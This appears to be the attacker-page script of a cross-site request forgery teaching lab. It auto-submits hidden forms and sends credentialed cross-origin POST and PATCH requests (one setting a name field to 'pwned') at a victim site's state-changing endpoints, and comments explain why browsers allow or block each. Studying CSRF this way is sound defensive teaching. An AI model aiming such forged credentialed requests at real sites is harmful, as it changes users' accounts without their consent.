// The simulated attacker page of the CSRF lab, served under the instance's
// other name: it fires each state-changing request at the victim site with
// whatever cookies the browser attaches. It cannot read the answers.
// Self-contained: an attacker's page has none of the site's modules.
const FRAME_WAIT_MS = 4000;

function runAttacks(items) {
  let pending = items.length;

  function settled(item, text) {
    const state = item.querySelector("[data-field=state]");
    if (state.dataset.done) return;
    state.dataset.done = "1";
    state.textContent = text;
    pending -= 1;
    if (pending === 0) {
      document.getElementById("attacker-done").hidden = false;
      document.body.dataset.state = "done";
    }
  }

  for (const item of items) {
    const form = item.querySelector("form[data-autosubmit]");
    if (form) {
      item.querySelector("iframe").addEventListener("load", () => settled(item, "form posted"));
      // The answer is framed nowhere (X-Frame-Options: DENY): do not wait for ever.
      window.setTimeout(() => settled(item, "form posted"), FRAME_WAIT_MS);
      form.submit();
      continue;
    }
    const init =
      item.dataset.method === "POST"
        ? // A "simple" request: no preflight, the browser sends it and hides the answer.
          { method: "POST", credentials: "include", mode: "no-cors" }
        : // Not simple (PATCH, JSON): the browser asks the site first (CORS preflight).
          {
            method: item.dataset.method,
            credentials: "include",
            headers: { "Content-Type": "application/json" },
            body: JSON.stringify({ first_name: "pwned" }),
          };
    fetch(item.dataset.url, init).then(
      () => settled(item, "sent (answer unreadable)"),
      () => settled(item, "refused by the browser (no CORS permission)")
    );
  }
}

const items = document.querySelectorAll("#attacks li[data-attack]");
if (items.length) runAttacks([...items]);
